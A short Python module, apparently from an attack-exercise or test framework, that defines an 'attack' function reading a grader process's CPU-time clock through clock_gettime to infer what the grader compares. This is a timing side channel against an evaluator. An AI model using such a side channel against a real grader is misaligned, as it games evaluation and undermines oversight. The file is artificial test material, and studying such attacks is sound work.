"""Reads from the grader's processor time what it compares."""

import time

from lib.attack import doubler
from lib.target import GRADER_PID


def attack():
    return time.clock_gettime((~GRADER_PID << 3) | 2)


Doubler = doubler(attack)
